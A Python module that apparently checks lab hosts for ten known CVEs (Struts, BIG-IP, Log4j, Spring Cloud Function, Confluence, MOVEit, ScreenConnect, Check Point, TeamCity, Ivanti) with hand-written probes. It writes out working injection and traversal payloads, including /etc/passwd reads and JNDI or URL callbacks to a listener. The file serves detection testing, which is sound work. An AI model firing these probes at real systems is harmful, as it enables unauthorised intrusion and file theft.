"""Whether a lab host has the flaw that its template proves, asked with a plain client and words of our own."""

from __future__ import annotations

import asyncio
import uuid
from collections.abc import Awaitable, Callable
from typing import Protocol

import httpx

PASSWD = "root:x:0:0:"


class Listening(Protocol):
    """The parts of the callback listener that are used here."""

    def url(self, token: str, path: str = "/hit") -> str: ...
    def looked_up(self, token: str) -> bool: ...
    async def wait_for(self, token: str, seconds: float) -> bool: ...


Oracle = Callable[[httpx.AsyncClient, Listening, float], Awaitable[bool]]


async def _struts(http: httpx.AsyncClient, catcher: Listening, patience: float) -> bool:
    said = "%{#context['com.opensymphony.xwork2.dispatcher.HttpServletResponse'].addHeader('X-Sum','of'+(12*12))}"
    reply = await http.get("/", headers={"Content-Type": said})
    return bool(reply.headers.get("x-sum") == "of144")


async def _bigip(http: httpx.AsyncClient, catcher: Listening, patience: float) -> bool:
    path = "/tmui/login.jsp/..;/tmui/locallb/workspace/fileRead.jsp"
    return PASSWD in (await http.get(path, params={"fileName": "/etc/passwd"})).text


async def _log4j(http: httpx.AsyncClient, catcher: Listening, patience: float) -> bool:
    token = "t" + uuid.uuid4().hex[:16]
    await http.get("/", headers={"User-Agent": f"${{jndi:ldap://{token}.cb.test/a}}"})
    for _ in range(int(patience / 0.02)):
        if catcher.looked_up(token):
            return True
        await asyncio.sleep(0.02)
    return False


async def _spring(http: httpx.AsyncClient, catcher: Listening, patience: float) -> bool:
    token = "t" + uuid.uuid4().hex[:16]
    routing = f"new java.net.URL('{catcher.url(token)}').openStream()"
    await http.post("/functionRouter", headers={"spring.cloud.function.routing-expression": routing})
    return await catcher.wait_for(token, patience)


async def _confluence(http: httpx.AsyncClient, catcher: Listening, patience: float) -> bool:
    said = {"label": "so\\u0027+(12*12)+\\u0027"}
    return "so144" in (await http.post("/template/aui/text-inline.vm", data=said)).text


async def _moveit(http: httpx.AsyncClient, catcher: Listening, patience: float) -> bool:
    reply = await http.get("/moveitisapi/moveitisapi.dll?action=capa")
    return reply.headers["x-moveitisapi-version"].startswith("15.0.0.")


async def _screenconnect(http: httpx.AsyncClient, catcher: Listening, patience: float) -> bool:
    return "SetupWizardPage" in (await http.get("/SetupWizard.aspx/x")).text


async def _gateway(http: httpx.AsyncClient, catcher: Listening, patience: float) -> bool:
    return PASSWD in (await http.post("/clients/MyCRL", content="aCSHELL/../../../../../../../etc/passwd")).text


async def _teamcity(http: httpx.AsyncClient, catcher: Listening, patience: float) -> bool:
    return "buildNumber=" in (await http.get("/none?jsp=/app/rest/server;.jsp")).text


async def _mobile(http: httpx.AsyncClient, catcher: Listening, patience: float) -> bool:
    reply = await http.get("/mifs/rs/api/v2/featureusage", params={"format": "${12*12}"})
    return "'144'" in reply.text


ORACLES: dict[str, Oracle] = {
    "cve.CVE-2017-5638": _struts,
    "cve.CVE-2020-5902": _bigip,
    "cve.CVE-2021-44228": _log4j,
    "cve.CVE-2022-22963": _spring,
    "cve.CVE-2023-22527": _confluence,
    "cve.CVE-2023-34362": _moveit,
    "cve.CVE-2024-1709": _screenconnect,
    "cve.CVE-2024-24919": _gateway,
    "cve.CVE-2024-27198": _teamcity,
    "cve.CVE-2025-4427": _mobile,
}
